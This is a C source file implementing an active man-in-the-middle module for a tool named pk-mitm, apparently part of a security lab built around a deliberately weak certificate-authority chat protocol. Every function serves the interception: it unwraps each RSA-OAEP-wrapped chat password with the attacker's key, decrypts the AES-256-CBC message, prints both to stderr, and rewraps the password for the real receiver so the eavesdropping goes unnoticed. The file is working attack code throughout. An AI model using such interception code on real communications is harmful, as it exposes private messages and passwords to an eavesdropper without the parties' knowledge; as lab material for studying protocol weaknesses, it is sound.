/*
 * ca_active: pk-mitm -p ca-chat -k KEY --peer-key CERT, the active attack
 * on seed 004's peer chat.  A sender that took the attacker's certificate
 * for the receiver's (ca-cn: the CA signs any name) wraps the chat
 * password for the attacker's key: each message's third frame is
 * unwrapped with -k's key, the message decrypted (AES-256-CBC under
 * SHA-256 of the password, lib/cawire.h) and said on stderr, and the
 * password wrapped again for --peer-key's, so that the receiver reads the
 * message as if nobody had.  A password not wrapped for -k's key (the
 * hardened profile's frames, or a sender that has the real key) is
 * forwarded untouched.
 */
#include <err.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <nettle/aes.h>
#include <nettle/cbc.h>
#include <nettle/sha2.h>

#include "key.h"
#include "mitm.h"
#include "oaep.h"
#include "pkcs7.h"
#include "rand.h"
#include "secret.h"

struct ca_keys {
	const char *keyfile, *peerfile;
	struct key_rsa key, peer;
	int has_peer;
};

/* One direction's message so far: its ciphertext and IV. */
struct ca_msg {
	uint8_t ct[CA_CHAT_CT_MAX];
	size_t ctlen;
	uint8_t iv[CA_CHAT_IV];
	int have_iv;
	int said; /* that the password is not wrapped for -k's key */
};

struct ca_act {
	const struct ca_keys *keys;
	struct ca_msg dir[2]; /* [c2s] */
	uint8_t pass[CA_CHAT_WRAP_MAX], text[CA_CHAT_CT_MAX];
	size_t passlen;
};

static void
load(struct key_rsa *k, const char *path, int need_private)
{
	char msg[512];
	int rv;

	key_init(k);
	if ((rv = key_load(k, path, NULL, need_private)) != KEY_OK) {
		key_load_msg(rv, path, NULL, msg, sizeof(msg));
		key_clear(k);
		errx(2, "%s", msg);
	}
}

static void *
ca_setup(const char *key, const char *peer, const struct mitm_edit *edit)
{
	struct ca_keys *s;

	(void)edit; /* not .edits: main refuses --edit */
	if ((s = calloc(1, sizeof(*s))) == NULL)
		err(2, NULL);
	secret_gmp_init();
	s->keyfile = key;
	load(&s->key, key, 1);
	if ((s->peerfile = peer) != NULL) {
		load(&s->peer, peer, 0);
		s->has_peer = 1;
	}
	if (s->has_peer && oaep_max_len(&nettle_sha256, s->peer.pub.size) < 1)
		errx(2, "%s: a key too small for RSA-OAEP-SHA256", peer);
	return s;
}

static void *
ca_conn_new(void *setup)
{
	struct ca_act *a;

	if ((a = secret_alloc(sizeof(*a))) != NULL)
		a->keys = setup;
	return a;
}

static void
ca_conn_free(void *conn)
{
	secret_free(conn, sizeof(struct ca_act));
}

/* "pk-mitm: conn N: what: " and the bytes, printable ASCII or \xNN. */
static void
say(long long conn, const char *what, const uint8_t *p, size_t n)
{
	fprintf(stderr, "pk-mitm: conn %lld: %s: ", conn, what);
	edit_show(p, n);
	fputc('\n', stderr);
}

/* Decrypts m with SHA-256 of a's password into a->text; -1: padding. */
static long
decrypt(struct ca_act *a, const struct ca_msg *m)
{
	struct aes256_ctx aes;
	uint8_t key[SHA256_DIGEST_SIZE], iv[CA_CHAT_IV];
	struct sha256_ctx h;
	long n;

	sha256_init(&h);
	sha256_update(&h, a->passlen, a->pass);
	sha256_digest(&h, sizeof(key), key);
	aes256_set_decrypt_key(&aes, key);
	memcpy(iv, m->iv, sizeof(iv));
	cbc_decrypt(&aes, (nettle_cipher_func *)aes256_decrypt, CA_CHAT_IV, iv,
	    m->ctlen, a->text, m->ct);
	n = pkcs7_strip(a->text, m->ctlen, CA_CHAT_IV);
	secret_wipe(&aes, sizeof(aes));
	secret_wipe(key, sizeof(key));
	return n;
}

/* The wrapped password: unwrapped, the message read, wrapped again. */
static long
password(struct ca_act *a, struct ca_msg *m, const struct mitm_frame *fr,
    const uint8_t *p, size_t n, uint8_t *out, size_t cap)
{
	const struct ca_keys *k = a->keys;
	long len;

	if (m->ctlen == 0 || !m->have_iv || n != k->key.pub.size ||
	    oaep_decrypt(&k->key.pub, &k->key.priv, &nettle_sha256, NULL, 0,
		NULL, rand_nettle, n, p, &a->passlen, a->pass) != 0) {
		if (!m->said)
			fprintf(stderr,
			    "pk-mitm: conn %lld: the chat password is not "
			    "wrapped for %s: forwarded as it is\n",
			    fr->conn, k->keyfile);
		m->said = 1;
		return -1;
	}
	say(fr->conn, "chat password", a->pass, a->passlen);
	if ((len = decrypt(a, m)) < 0)
		fprintf(stderr,
		    "pk-mitm: conn %lld: the message does not "
		    "decrypt\n",
		    fr->conn);
	else
		say(fr->conn, "message", a->text, (size_t)len);
	m->ctlen = 0;
	m->have_iv = 0;
	len = -1;
	if (k->has_peer && FRAME_HDR + k->peer.pub.size <= cap &&
	    (long)a->passlen <=
		oaep_max_len(&nettle_sha256, k->peer.pub.size) &&
	    oaep_encrypt(&k->peer.pub, &nettle_sha256, NULL, 0, NULL,
		rand_nettle, a->passlen, a->pass, out + FRAME_HDR) == 0) {
		frame_put_header(out, (uint32_t)k->peer.pub.size);
		len = (long)(FRAME_HDR + k->peer.pub.size);
		fprintf(stderr,
		    "pk-mitm: conn %lld: the password wrapped "
		    "again for %s\n",
		    fr->conn, k->peerfile);
	}
	secret_wipe(a->pass, sizeof(a->pass));
	secret_wipe(a->text, sizeof(a->text));
	return len;
}

/* Keeps each message's ciphertext and IV until its password comes. */
static long
ca_frame(void *conn, const struct mitm_frame *fr, size_t len, uint8_t *out,
    size_t cap)
{
	struct ca_act *a = conn;
	struct ca_msg *m = &a->dir[fr->c2s != 0];
	const char *step = fr->tf->step;
	const uint8_t *p = fr->buf + FRAME_HDR;
	size_t n = len - FRAME_HDR;

	if (fr->tf->bad != NULL || len < FRAME_HDR)
		return -1;
	if (strcmp(step, "chat-ciphertext") == 0 && n <= sizeof(m->ct)) {
		memcpy(m->ct, p, n);
		m->ctlen = n;
		m->have_iv = 0;
	} else if (strcmp(step, "chat-iv") == 0 && n == CA_CHAT_IV) {
		memcpy(m->iv, p, n);
		m->have_iv = 1;
	} else if (strcmp(step, "chat-password") == 0)
		return password(a, m, fr, p, n, out, cap);
	return -1;
}

const struct mitm_active ca_active = {
    .setup = ca_setup,
    .conn_new = ca_conn_new,
    .conn_free = ca_conn_free,
    .frame = ca_frame,
};
